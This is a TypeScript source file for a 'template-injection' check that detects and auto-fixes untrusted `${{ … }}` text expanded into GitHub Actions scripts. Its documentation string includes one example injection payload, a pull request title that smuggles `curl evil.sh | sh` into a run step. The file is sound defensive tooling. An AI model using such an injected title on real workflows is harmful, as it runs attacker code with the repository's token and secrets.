import type { Pair, Scalar } from 'yaml';
import { SEVERITIES, type CheckMeta, type Finding, type Fix, type Severity, type Confidence, type TextEdit } from '../../model';
import type { Check, RepoContext, SourceFile } from '../types';
import { finding } from '../helpers';
import { get, isAlias, isMap, isScalar, keyString, locationOf, pairs, rangeLocation, deref, type YamlFile } from '../../yaml/parse';
import { triggerNames, type JobModel, type StepModel, type WorkflowModel } from '../../yaml/workflow';
import { actionName, parseUses } from '../../yaml/uses';
import { flowingRefs, literalValues, normalizeExpression, parseExpression, type ContextRef } from '../../yaml/expressions';
import { scalarExpressions, scalarValue, type ScalarExpression } from '../../workflow/scalar-expressions';
import { classifyContext, outsiderCanSupply, rank, textTaint, type TaintVerdict, type TaintScope } from '../../workflow/taint';
import { jsStateAt, posixStateAt, pwshStateAt } from '../../workflow/shell-context';
import { addMapEntries, type Entry } from '../../workflow/edit';
import { outsiderReach } from '../../workflow/guards';
import { codeInputsOf } from '../../workflow/code-inputs';
import { isUsable } from '../../repo/load';

export const meta: CheckMeta = {
  id: 'template-injection',
  title: 'No untrusted text pasted into scripts',
  category: 'workflows',
  severity: 'high',
  confidence: 'high',
  fixable: true,
  essential: true,
  docs: {
    summary:
      'A `run:` script, an `actions/github-script` script, or another action input that the action runs as code (azure/cli `inlineScript`, mikefarah/yq `cmd`, …) contains `${{ … }}` that expands text into the code before it runs. High when outsiders choose that text (an issue or pull request title, a comment, a branch name, a commit message) under a trigger they can start; low "hygiene" for values only maintainers choose (manual-run inputs, variables, constants, values the workflow computes).',
    whyItMatters:
      'GitHub replaces `${{ … }}` with its value before the shell sees the script, so the value becomes part of the program. A pull request titled `"; curl evil.sh | sh; echo "` then runs the attacker\'s commands inside your workflow, with its token and secrets. This is one of the most common ways GitHub Actions are taken over, and it needs nothing more than opening an issue or a pull request. For values only maintainers choose, the same habit keeps an odd value from breaking the script, but nobody outside can use it.',
    howToFix:
      'Pass the value through an environment variable instead: add `env: TITLE: ${{ github.event.issue.title }}` to the step and use `"$TITLE"` in the script (`process.env.TITLE` in github-script, `JSON.parse(process.env.DATA)` where the script used the value as a JavaScript value, `$env:TITLE` in PowerShell). The shell then treats it as data, never as code.',
    effort: 'minutes',
    fixSafety:
      'Safe when the script receives exactly the same text, only as data: inside quotes, here-documents, JavaScript strings and template literals, and where outsiders\' text was split or run (that is the hazard). Marked for review, with the reason, where the script may receive something different: outsiders\' text that was the list of a `for` loop, or a github-script value that `JSON.parse` gives back only when it is JSON. No fix where a value outsiders do not choose stands unquoted (a `for` list, a string of several options, unquoted PowerShell): the shell split it into words, a quoted variable would be one word, and the rewrite would only add risk. No fix for cmd (which expands %X% while it parses) or Python shells, or for other actions\' code inputs.',
  },
  references: {
    zizmor: 'template-injection',
    scorecard: 'Dangerous-Workflow',
    osps: ['OSPS-BR-01.01'],
    other: [{ title: 'GitHub: Security hardening — understanding the risk of script injections', url: 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections' }],
  },
};

type Lang = 'posix' | 'pwsh' | 'js' | 'other';

interface Sink {
  /** `run` for run steps, `input` for an action input the action runs as code (github-script `script` included). */
  kind: 'run' | 'input';
  node: Scalar;
  step: StepModel;
  job?: JobModel;
  lang: Lang;
  steps: readonly StepModel[];
  /** For input sinks: the input's name as written, the action, and how the action runs it. */
  input?: { name: string; action: string; runs: string };
}

function langOf(shell: string | undefined, job: JobModel | undefined, isAction: boolean, file: YamlFile): Lang {
  let s = shell?.trim().split(/\s+/)[0]?.toLowerCase();
  if (!s) {
    if (isAction) return 'other'; // composite steps must name a shell; without one we cannot know
    const runsOn = job?.runsOn ? JSON.stringify(deref(job.runsOn.value, file) ?? '') : '';
    if (!runsOn.includes('${{')) return /windows/i.test(runsOn) ? 'pwsh' : 'posix';
    // `runs-on: ${{ matrix.os }}`: the default shell is bash on Linux and macOS but PowerShell on
    // Windows, and no replacement reads the same in both. Only a matrix written out in the file
    // that names no Windows runner (and nothing computed) is known to be POSIX everywhere.
    const matrix = job ? get(get(job.node, 'strategy', file), 'matrix', file) : undefined;
    const range = (matrix as { range?: [number, number, number] } | undefined)?.range;
    const text = range ? file.text.slice(range[0], range[2]) : '';
    return range && !text.includes('${{') && !/windows/i.test(text) ? 'posix' : 'other';
  }
  if (s.includes('${{')) return 'other';
  s = s.replace(/^.*[\\/]/, '').replace(/\.exe$/, '');
  if (['bash', 'sh', 'zsh', 'dash', 'ksh', 'msys2'].includes(s)) return 'posix';
  if (['pwsh', 'powershell'].includes(s)) return 'pwsh';
  // cmd expands %X% while it parses the line, so an environment variable is no safer there; Python
  // and custom shells have no form Steward writes. Those steps get findings but no fix.
  return 'other';
}

function stepAction(step: StepModel): string | undefined {
  return step.uses ? actionName(step.uses.value) : undefined;
}

function sinks(file: SourceFile): Sink[] {
  const out: Sink[] = [];
  const isAction = !!file.action;
  const y = file.yaml!;
  const groups: { job?: JobModel; steps: StepModel[] }[] = file.workflow
    ? file.workflow.jobs.map((job) => ({ job, steps: job.steps }))
    : file.action
      ? [{ steps: file.action.steps }]
      : [];
  for (const { job, steps } of groups) {
    for (const step of steps) {
      if (step.run) {
        // No `${{` in the value: no expression, so nothing to report (scalarExpressions gives none);
        // most run steps, and langOf (JSON of runs-on per step) was the costly part of the sink.
        if (!step.run.value.includes('${{')) continue;
        out.push({ kind: 'run', node: step.run.node, step, job, lang: langOf(step.shell ?? job?.defaultShell, job, isAction, y), steps });
        continue;
      }
      const name = stepAction(step);
      if (!name || !step.with) continue;
      const rows = codeInputsOf(name);
      for (const p of pairs(step.with)) {
        const key = keyString(p);
        const row = key ? rows.find((r) => r.input === key.toLowerCase()) : undefined;
        const v = deref(p.value, y);
        if (!row || !key || !isScalar(v)) continue;
        // Only github-script's `script` gets the env fix: Steward knows its runtime reads process.env.
        const lang: Lang = row.action === 'actions/github-script' ? 'js' : 'other';
        out.push({ kind: 'input', node: v, step, job, lang, steps, input: { name: key, action: row.action, runs: row.runs } });
      }
    }
  }
  return out;
}

interface Hit {
  sink: Sink;
  expr: ScalarExpression;
  verdict: TaintVerdict;
  ref: ContextRef;
}

function worstRef(expr: ScalarExpression, scope: TaintScope): { verdict: TaintVerdict; ref: ContextRef } | undefined {
  let best: { verdict: TaintVerdict; ref: ContextRef } | undefined;
  // Only references whose text can become the expression's value: `a == b`, `!a`, `contains(…)` and
  // the left side of `a && b` give booleans (or a falsy value), never someone's text.
  for (const ref of flowingRefs(expr.value.inner)) {
    const verdict = classifyContext(ref.path, scope, 0, ref.segments);
    if (verdict.taint === 'safe') continue;
    if (!best || rank(verdict.taint) > rank(best.verdict.taint)) best = { verdict, ref };
  }
  return best;
}

/** A local workflow job that calls the file being checked, as seen from the caller. */
export interface CallerSite {
  /** The calling workflow's path. */
  path: string;
  job: string;
  triggers: ReadonlySet<string>;
  /** Taint of each `with:` value the caller passes, by input name (lower case). */
  inputs: ReadonlyMap<string, TaintVerdict>;
  /** The caller's `if:` (keeps outsiders out or not). */
  condition?: string;
}

interface Grade {
  severity: Severity;
  confidence: Confidence;
  /** The sentence after the colon: who controls the text and what follows. */
  says: string;
}

const WHO: [string, string][] = [
  ['pull_request_target', 'anyone who can open a pull request'],
  ['pull_request', 'anyone who can open a pull request'],
  ['issues', 'anyone who can open an issue'],
  ['issue_comment', 'anyone who can comment'],
  ['pull_request_review', 'anyone who can review a pull request'],
  ['pull_request_review_comment', 'anyone who can comment on a pull request'],
  ['discussion', 'anyone who can start a discussion'],
  ['discussion_comment', 'anyone who can comment on a discussion'],
  ['workflow_run', 'anyone whose pull request starts the triggering workflow'],
  ['gollum', 'anyone who can edit the wiki'],
];

function who(v: TaintVerdict, triggers: ReadonlySet<string>): string {
  const carried = v.carriedBy ?? [];
  for (const [t, w] of WHO) if (triggers.has(t) && (carried.length === 0 || carried.includes(t))) return w;
  return 'people outside the project';
}

/** Triggers of `triggers` that let outsiders start a run carrying this text, and that the conditions do not keep them out of. */
function openTriggers(v: TaintVerdict, triggers: ReadonlySet<string>, conditions: readonly (string | undefined)[]): Set<string> {
  const out = new Set<string>();
  for (const t of triggers) {
    if (!outsiderCanSupply(v, new Set([t]))) continue;
    if (outsiderReach(conditions, t) === 'open') out.add(t);
  }
  return out;
}

function attackerGrade(v: TaintVerdict, triggers: ReadonlySet<string>, conditions: readonly (string | undefined)[], through?: string): Grade {
  const open = openTriggers(v, triggers, conditions);
  if (open.size) return { severity: 'high', confidence: 'high', says: `${who(v, open)} can make this step run commands of their choice${through ?? ''}` };
  const kept = [...triggers].some((t) => outsiderCanSupply(v, new Set([t])));
  return {
    severity: 'medium',
    confidence: 'high',
    says: kept
      ? `the job's or step's condition keeps outsiders' runs out, so only people with write access supply that text${through ?? ''} — still, it becomes part of the code before it runs`
      : `that text is written by people who are not necessarily maintainers (for example in a merged pull request), and it becomes part of the code before it runs${through ?? ''}`,
  };
}

const HYGIENE = 'passing it through `env:` is hygiene, not a fix for an open door';

function grade(h: Hit, wf: WorkflowModel | undefined, conditions: readonly (string | undefined)[], callers: readonly CallerSite[] | undefined): Grade {
  const v = h.verdict;
  const own = wf ? triggerNames(wf) : new Set<string>();
  const reusable = own.has('workflow_call');
  if (v.taint === 'attacker') {
    // In a reusable workflow the event is the caller's: its triggers decide who writes the text.
    if (reusable && callers) {
      const all = new Set([...own, ...callers.flatMap((c) => [...c.triggers])]);
      const cond = [...conditions];
      const viaCaller = callers.find((c) => openTriggers(v, c.triggers, [c.condition, ...cond]).size > 0);
      if (viaCaller) return attackerGrade(v, viaCaller.triggers, [viaCaller.condition, ...cond], ` (through the call from \`${viaCaller.path}\`)`);
      return attackerGrade(v, new Set([...all].filter((t) => t !== 'workflow_call')), cond);
    }
    if (reusable && own.size === 1) {
      return { severity: 'medium', confidence: 'medium', says: 'who writes that text depends on the workflows that call this one (none in this repository), and it becomes part of the code before it runs' };
    }
    return attackerGrade(v, own, conditions);
  }
  if (v.taint === 'input') {
    const declared = v.input?.declaredBy ?? [];
    const name = v.input?.name ?? '*';
    if (declared.includes('workflow_call') && callers && callers.length) {
      let worst: Grade | undefined;
      const constant: string[] = [];
      for (const c of callers) {
        const passed = c.inputs.get(name.toLowerCase());
        if (!passed || passed.taint === 'safe') {
          constant.push(c.path);
          continue;
        }
        const g: Grade =
          passed.taint === 'attacker'
            ? attackerGrade(passed, c.triggers, [c.condition, ...conditions], ` (\`${c.path}\` passes ${passed.what} as \`${name}\`)`)
            : { severity: 'low', confidence: 'medium', says: `\`${c.path}\` passes ${passed.what} as \`${name}\`, which outsiders do not choose; ${HYGIENE}` };
        if (!worst || SEVERITY_RANK(g.severity) > SEVERITY_RANK(worst.severity)) worst = g;
      }
      if (worst) return worst;
      return { severity: 'low', confidence: 'high', says: `every caller in this repository (${[...new Set(constant)].map((p) => `\`${p}\``).join(', ')}) passes a fixed value or none; ${HYGIENE}` };
    }
    if (declared.includes('workflow_call') && !declared.includes('workflow_dispatch')) {
      return { severity: 'low', confidence: 'medium', says: `the workflows that call this one choose that text, and none in this repository does; ${HYGIENE} unless a caller passes outsiders' text` };
    }
    if (declared.includes('action')) {
      return { severity: 'low', confidence: 'medium', says: `the workflows that use this action choose that text; ${HYGIENE} unless one of them passes outsiders' text (a title, a branch name)` };
    }
    return { severity: 'low', confidence: 'medium', says: `only people who can run the workflow by hand (write access) choose that text; ${HYGIENE}` };
  }
  return { severity: 'low', confidence: 'low', says: `nothing Steward can see lets outsiders choose that value; ${HYGIENE}` };
}

const SEVERITY_RANK = (s: Severity): number => SEVERITIES.indexOf(s);

function message(h: Hit, g: Grade): string {
  const where = h.sink.kind === 'run' ? 'a `run:` script' : `the \`${h.sink.input!.name}:\` input of ${h.sink.input!.action}, which ${h.sink.input!.runs}`;
  const shown = `\`\${{ ${h.expr.expr} }}\``;
  const via = h.verdict.via ? ` (through \`${h.verdict.via}\`)` : '';
  return `${shown} pastes ${h.verdict.what}${via} into ${where}: ${g.says}`;
}

// --- The fix: move expressions into the step's env ---------------------------------------------

function readableName(ref: ContextRef): string {
  let segs = ref.segments.filter((s) => s !== '*');
  const lower = segs.map((s) => s.toLowerCase());
  if (lower[0] === 'github' && lower[1] === 'event') segs = segs.slice(2);
  else if (lower[0] === 'github') segs = segs.slice(1);
  // `inputs.x` and `github.event.inputs.x` are the same input: both become INPUT_X.
  if (segs[0]?.toLowerCase() === 'inputs') segs = ['input', ...segs.slice(1)];
  else if (lower[0] === 'steps' && lower[2] === 'outputs') segs = [segs[1], ...segs.slice(3)];
  else if (lower[0] === 'needs' && lower[2] === 'outputs') segs = [segs[1], ...segs.slice(3)];
  segs = segs.map((s) => (s.toLowerCase() === 'pull_request' ? 'pr' : s));
  let name = segs.join('_').toUpperCase().replace(/[^A-Z0-9]+/g, '_').replace(/^_+|_+$/g, '');
  if (!name) name = 'VALUE';
  if (/^[0-9]/.test(name)) name = `_${name}`;
  return name;
}

interface EnvIndex {
  /** Variable names, in file order. */
  names: ReadonlySet<string>;
  /** For each `${{ expr }}` value, the variables holding exactly it, in file order. */
  byExpr: ReadonlyMap<string, string[]>;
}

const NO_ENV: EnvIndex = { names: new Set(), byExpr: new Map() };
// One index per env mapping: every step's fix looks the workflow's and its job's env up, and a
// workflow of n jobs with an env of n variables would otherwise cost n² (issue 19's doubling tests).
const envIndexes = new WeakMap<object, EnvIndex>();

function envIndex(map: unknown, file: YamlFile): EnvIndex {
  if (!isMap(map)) return NO_ENV;
  const known = envIndexes.get(map);
  if (known) return known;
  const names = new Set<string>();
  const byExpr = new Map<string, string[]>();
  for (const p of pairs(map)) {
    const k = keyString(p);
    if (k === undefined || names.has(k)) continue;
    names.add(k);
    const v = deref(p.value, file);
    const e = asExprValue(isScalar(v) ? scalarValue(v) : undefined);
    if (e !== undefined) byExpr.set(e, [...(byExpr.get(e) ?? []), k]);
  }
  const index = { names, byExpr };
  envIndexes.set(map, index);
  return index;
}

/** `${{ expr }}` exactly, with whitespace collapsed — how equal env values are recognised. */
function asExprValue(v: string | undefined): string | undefined {
  if (v === undefined) return undefined;
  const m = /^\$\{\{([\s\S]*)\}\}$/.exec(v.trim());
  return m ? normalizeExpression(m[1]) : undefined;
}

function encodeForScalar(s: string, node: Scalar): string | undefined {
  switch (node.type) {
    case 'QUOTE_DOUBLE':
      return s.replace(/\\/g, '\\\\').replace(/"/g, '\\"');
    case 'QUOTE_SINGLE':
      return s.replace(/'/g, "''");
    case 'PLAIN':
      return / #|: /.test(s) ? undefined : s;
    default:
      return s;
  }
}

interface Replacement {
  start: number;
  end: number;
  text: string;
  /** Why the script may now receive something different, in words a maintainer reads; absent when it receives the same. */
  review?: string;
  /** The kind of change, so several expressions of one kind share one sentence. */
  kind?: 'for-list' | 'js';
  /** Set (to the expression as shown) when no rewrite gives the script the same words: the step gets no fix. */
  blocked?: string;
  shown?: string;
}

// The words before an expression that make it (part of) the list of a `for` loop on its line.
const FOR_LIST = /(?:^|[\s;&|(])for\s+[A-Za-z_][A-Za-z0-9_]*\s+in\s+[^;&|#]*$/;

const REASON: Record<NonNullable<Replacement['kind']>, (list: string, many: boolean) => string> = {
  'for-list': (l) => `${l} are the lists of \`for\` loops, which ran once per word; the quoted variables run each loop once with the whole text — check that is what the loops should do.`,
  js: (l, m) => `The script used ${l} as ${m ? 'JavaScript values' : 'a JavaScript value'}; \`JSON.parse(process.env.…)\` gives the same value only when it is JSON (a number, true/false, a quoted string, an object or list) — check that ${m ? 'they always are' : 'it always is'}.`,
};

function joinList(xs: string[]): string {
  return xs.length <= 1 ? (xs[0] ?? '') : `${xs.slice(0, -1).join(', ')} and ${xs[xs.length - 1]}`;
}

/** One sentence per kind of change, naming every expression of that kind. */
function reviewReasons(reps: readonly Replacement[]): string[] {
  const out: string[] = [];
  for (const kind of ['for-list', 'js'] as const) {
    const shown = [...new Set(reps.filter((r) => r.kind === kind && r.review).map((r) => r.shown!))];
    if (!shown.length) continue;
    out.push(shown.length === 1 ? reps.find((r) => r.kind === kind && r.review)!.review! : REASON[kind](joinList(shown), true));
  }
  return out;
}

// Contexts whose value is always a number: JSON.parse gives the same number the script used to see.
const NUMERIC = /(?:^|\.)(?:number|run_id|run_number|run_attempt|id|[a-z_]+_id|[a-z_]+_count)$/;

/** Whether the expression's value is always JSON text (so `JSON.parse` gives the value the script saw as code). */
function alwaysJson(h: Hit): boolean {
  const ast = parseExpression(h.expr.value.inner);
  if (!ast) return false;
  if (ast.kind === 'call' && ast.name === 'tojson') return true;
  const lits = literalValues(ast);
  if (lits) return lits.every((l) => /^(?:true|false|null|-?\d+(?:\.\d+)?)$/.test(l));
  return ast.kind === 'ref' && NUMERIC.test(ast.path) && ast.path.startsWith('github.');
}

function replacementFor(h: Hit, name: string, file: YamlFile): Replacement | undefined {
  const raw = h.expr.raw;
  if (!raw) return undefined;
  const value = scalarValue(h.sink.node);
  const at = h.expr.value.start;
  const vEnd = h.expr.value.end;
  const shown = `\`\${{ ${h.expr.expr} }}\``;
  // Outsiders' text being split into words or run is the hazard itself; for other values a change in
  // what the script receives needs a maintainer's look.
  const attacker = h.verdict.taint === 'attacker';
  let start = raw.start;
  let end = raw.end;
  let text: string | undefined;
  let review: string | undefined;
  if (h.sink.lang === 'posix') {
    const st = posixStateAt(value, at);
    if (st === 'plain') {
      // Unquoted, the shell splits the value into words (a `for` list, several arguments) and drops it
      // when empty; `"$X"` is one word, so the script would receive something else. For values outsiders
      // do not choose that is all the change brings: no rewrite (the finding says why).
      if (!attacker) return { start, end, text: '', blocked: shown };
      text = `"$${name}"`;
      // Outsiders' text split into words is part of the hazard, except as a `for` list, whose passes
      // the maintainers meant to run once per word.
      if (FOR_LIST.test(value.slice(value.lastIndexOf('\n', at - 1) + 1, at))) {
        review = `${shown} is the list of a \`for\` loop, which ran once per word; \`"$${name}"\` runs it once with the whole text — check that is what the loop should do.`;
      }
    } else if (st === 'double' || st === 'heredoc') text = `\${${name}}`;
    else if (st === 'single') {
      const quoteSafe = h.sink.node.type !== 'QUOTE_SINGLE';
      if (quoteSafe && value[at - 1] === "'" && value[vEnd] === "'" && file.text[raw.start - 1] === "'" && file.text[raw.end] === "'") {
        // '${{ x }}' alone: the single-quoted word becomes the double-quoted variable.
        start -= 1;
        end += 1;
        text = `"$${name}"`;
      } else text = `'"$${name}"'`;
    }
    else if (st === 'comment') text = `$${name}`;
  } else if (h.sink.lang === 'pwsh') {
    const st = pwshStateAt(value, at);
    if (st === 'plain') {
      // Unquoted PowerShell parses the text as code (several arguments when it holds spaces); `${env:X}`
      // is one string. For values outsiders do not choose, no rewrite (as for POSIX shells above).
      if (!attacker) return { start, end, text: '', blocked: shown };
      text = `\${env:${name}}`;
    } else if (st === 'double') text = `\${env:${name}}`;
    else if (st === 'comment') text = `$env:${name}`;
  } else if (h.sink.lang === 'js') {
    const st = jsStateAt(value, at);
    const ref = `process.env.${name}`;
    if (st === 'comment') text = ref;
    else if (st === 'code') {
      // Used as a JavaScript value (`const data = ${{ … }}`): the text was read as a literal — a number,
      // true/false, an object. JSON.parse gives that same value back; process.env alone would be a string.
      text = `JSON.parse(${ref})`;
      if (!alwaysJson(h)) review = `The script used ${shown} as a JavaScript value; \`JSON.parse(${ref})\` gives the same value only when it is JSON (a number, true/false, a quoted string, an object or list) — check that it always is.`;
    } else if (st === 'template') text = `\${${ref}}`;
    else {
      const q = st === 'single' ? "'" : '"';
      const blockish = h.sink.node.type === 'BLOCK_LITERAL' || h.sink.node.type === 'BLOCK_FOLDED' || h.sink.node.type === 'PLAIN';
      if (blockish && value[at - 1] === q && value[vEnd] === q && file.text[raw.start - 1] === q && file.text[raw.end] === q) {
        // The string literal is the expression alone: the literal becomes the variable.
        start -= 1;
        end += 1;
        text = ref;
      } else text = `${q} + ${ref} + ${q}`;
    }
  }
  if (text === undefined) return undefined;
  const node = h.sink.node;
  if (node.type === 'PLAIN' && node.range && start === node.range[0] && /^["'`{[&*!|>%@]/.test(text)) return undefined;
  const encoded = encodeForScalar(text, node);
  if (encoded === undefined) return undefined;
  const kind: Replacement['kind'] = !review ? undefined : h.sink.lang === 'js' ? 'js' : 'for-list';
  return { start, end, text: encoded, review, kind, shown };
}

/**
 * The expressions of a step that no rewrite can move without changing the script's words (unquoted
 * values outsiders do not choose): they stay inline, with a finding that says why.
 */
function blockedExpressions(hits: readonly Hit[], file: YamlFile): Set<string> {
  const out = new Set<string>();
  if (hits[0]?.sink.lang !== 'posix' && hits[0]?.sink.lang !== 'pwsh') return out;
  for (const h of hits) if (replacementFor(h, 'X', file)?.blocked) out.add(h.expr.expr);
  return out;
}

function stepFix(file: SourceFile, hits: Hit[]): Fix | undefined {
  const y = file.yaml!;
  const { step, job, sink } = { step: hits[0].sink.step, job: hits[0].sink.job, sink: hits[0].sink };
  if (sink.lang === 'other') return undefined;
  // A script shared through an anchor would change in places whose step gets no env entry.
  if (sink.node.anchor || (sink.kind === 'run' && step.run && isAlias(step.run.pair.value))) return undefined;
  if (sink.kind === 'input' && step.with && isAlias((step.with.items as Pair[]).find((p) => keyString(p) === sink.input?.name)?.value)) return undefined;
  const stepEnv = envIndex(step.env ?? (step.envPair ? deref(step.envPair.value, y) : undefined), y);
  const jobEnv = envIndex(job?.env, y);
  const wfEnv = envIndex(file.workflow?.env, y);
  const script = scalarValue(sink.node);
  const added = new Set<string>();
  const taken = (n: string) => added.has(n) || stepEnv.names.has(n) || jobEnv.names.has(n) || wfEnv.names.has(n);
  const chosen = new Map<string, string>(); // expression -> name
  const entries: Entry[] = [];
  const reps: Replacement[] = [];
  for (const h of hits) {
    let name = chosen.get(h.expr.expr);
    if (!name) {
      const envRef = /^env\.([A-Za-z_][A-Za-z0-9_]*)$/.exec(h.expr.expr);
      if (envRef) name = envRef[1];
      // Reuse a variable that already holds this expression, unless a closer level redefines that name.
      const levels: [EnvIndex, EnvIndex[]][] = [
        [stepEnv, []],
        [jobEnv, [stepEnv]],
        [wfEnv, [stepEnv, jobEnv]],
      ];
      for (const [scopeEnv, closer] of levels) {
        if (name) break;
        name = scopeEnv.byExpr.get(h.expr.expr)?.find((k) => !closer.some((c) => c.names.has(k)));
      }
      if (!name) {
        const base = readableName(h.ref);
        name = base;
        for (let n = 2; taken(name) || new RegExp(`\\b${name}\\b`).test(script); n++) name = `${base}_${n}`;
        added.add(name);
        entries.push({ key: name, value: `\${{ ${h.expr.expr} }}` });
      }
      chosen.set(h.expr.expr, name);
    }
    const r = replacementFor(h, name, y);
    if (!r || r.blocked) return undefined;
    reps.push(r);
  }
  const edits: TextEdit[] = reps.map((r) => ({ file: file.path, start: r.start, end: r.end, newText: r.text }));
  if (entries.length) {
    const add = addMapEntries(y, step.node, 'env', entries);
    if (!add) return undefined;
    edits.push(...add);
  }
  const reasons = reviewReasons(reps);
  const names = [...new Set(chosen.values())];
  return {
    title: `Pass ${names.map((n) => `$${n}`).join(', ')} through the step's env instead of expanding ${hits.length === 1 ? 'the expression' : `${hits.length} expressions`} in the script`,
    safe: reasons.length === 0,
    reviewReason: reasons.length ? reasons.join(' ') : undefined,
    edits,
  };
}

function conditionText(node: unknown): string | undefined {
  return isScalar(node) ? String(node.value ?? '') : undefined;
}

const NO_REWRITE =
  ". No rewrite offered: the script uses the value unquoted, so the shell splits it into words (a `for` list, several arguments) and drops it when empty, and a quoted variable would pass exactly one word instead; the value is not outsiders' text, so such a change would only add risk.";

const NO_REWRITE_STEP =
  '. No rewrite offered for this step: other values in the same script stand unquoted where the shell splits them into words, so they stay as they are, and moving only some would leave the script half converted.';

/** Expressions one step's fix rewrites at most (real scripts have a few dozen). */
export const FIX_HITS_LIMIT = 500;

/** Findings for one file; `callers` are the local jobs that call it (reusable workflows), when known. */
export function analyze(file: SourceFile, callers?: readonly CallerSite[]): Finding[] {
  const y = file.yaml;
  if (!y || (!file.workflow && !file.action)) return [];
  const wf: WorkflowModel | undefined = file.workflow;
  const out: Finding[] = [];
  const byStep = new Map<StepModel, { hits: Hit[]; findings: [Finding, string][] }>();
  const seen = new Set<string>();
  for (const sink of sinks(file)) {
    const scope: TaintScope = { file: y, workflow: wf, job: sink.job, step: sink.step, steps: sink.steps };
    const conditions = [conditionText(sink.job?.if?.node), conditionText(sink.step.if?.node)];
    for (const expr of scalarExpressions(y, sink.node)) {
      const w = worstRef(expr, scope);
      if (!w) continue;
      const hit: Hit = { sink, expr, verdict: w.verdict, ref: w.ref };
      const entry = byStep.get(sink.step) ?? { hits: [], findings: [] };
      entry.hits.push(hit);
      byStep.set(sink.step, entry);
      const location = expr.raw ? rangeLocation(y, expr.raw.start, expr.raw.end) : locationOf(y, sink.node);
      // One finding per expression per line: the same text twice on a line is one problem (the fix
      // still rewrites both).
      const key = `${location?.start.line ?? -1}\u0000${expr.expr}`;
      if (seen.has(key)) continue;
      seen.add(key);
      const g = grade(hit, wf, conditions, callers);
      const f = finding(meta, { message: message(hit, g), severity: g.severity, confidence: g.confidence, location });
      out.push(f);
      entry.findings.push([f, expr.expr]);
    }
  }
  // One fix per step, shared by all of its findings: the env entries must be added together. Each
  // finding carries the whole fix, so a step with thousands of expressions (a hostile script) would
  // cost their square in edits: past FIX_HITS_LIMIT its findings are reported without a fix.
  for (const { hits, findings } of byStep.values()) {
    if (!findings.length || hits.length > FIX_HITS_LIMIT) continue;
    const blocked = blockedExpressions(hits, y);
    // With no outsiders' text in the step, moving only the quoted values would leave the script half
    // converted for no gain: the whole step keeps its expressions.
    const whole = blocked.size > 0 && !hits.some((h) => h.verdict.taint === 'attacker');
    for (const [f, expr] of findings) {
      if (blocked.has(expr)) f.message += NO_REWRITE;
      else if (whole) f.message += NO_REWRITE_STEP;
    }
    if (whole) continue;
    const movable = hits.filter((h) => !blocked.has(h.expr.expr));
    const fix = movable.length ? stepFix(file, movable) : undefined;
    if (fix) for (const [f, expr] of findings) if (!blocked.has(expr)) f.fixes.push({ ...fix, edits: fix.edits.map((e) => ({ ...e })) });
  }
  return out;
}

function localTarget(uses: string): string | undefined {
  const u = parseUses(uses);
  return u.kind === 'local' ? u.path.replace(/^\.\//, '') : undefined;
}

/** The local jobs that call each reusable workflow, with the taint of what they pass. */
export function callerSites(ctx: RepoContext): Map<string, CallerSite[]> {
  const out = new Map<string, CallerSite[]>();
  for (const file of ctx.byKind('workflow')) {
    const wf = file.workflow;
    if (!wf || !file.yaml) continue;
    const triggers = triggerNames(wf);
    for (const job of wf.jobs) {
      const target = job.uses ? localTarget(job.uses.value) : undefined;
      if (!target) continue;
      const inputs = new Map<string, TaintVerdict>();
      const scope: TaintScope = { file: file.yaml, workflow: wf, job, steps: [] };
      for (const p of pairs(job.with)) {
        const k = keyString(p);
        const v = deref(p.value, file.yaml);
        if (!k) continue;
        inputs.set(k.toLowerCase(), isScalar(v) ? textTaint(String(v.value ?? ''), scope, 0) : { taint: 'unknown', what: `the value of \`${k}\`` });
      }
      const list = out.get(target) ?? [];
      list.push({ path: file.path, job: job.id, triggers, inputs, condition: conditionText(job.if?.node) });
      out.set(target, list);
    }
  }
  return out;
}

export const check: Check = {
  meta,
  fileKinds: ['workflow', 'action'],
  notApplicableReason: 'No workflows or actions',
  checkFile(file) {
    return analyze(file);
  },
  // Reusable workflows are graded again with their local callers: what a caller passes, and under
  // which triggers, decides who writes the text. The per-file results stand for every other file.
  checkRepo(ctx, fileFindings) {
    const callers = callerSites(ctx);
    const redo = new Set<string>();
    const findings: Finding[] = [];
    for (const file of ctx.byKind('workflow')) {
      const sites = callers.get(file.path);
      if (file.workflow && sites && isUsable(file) && triggerNames(file.workflow).has('workflow_call')) {
        redo.add(file.path);
        findings.push(...analyze(file, sites));
      }
    }
    findings.unshift(...fileFindings.filter((f) => !f.location || !redo.has(f.location.file)));
    const any = ctx.byKind('workflow').length + ctx.byKind('action').length > 0;
    return { status: !any ? 'not-applicable' : findings.length ? 'fail' : 'pass', reason: any ? '' : 'No workflows or actions', findings };
  },
};
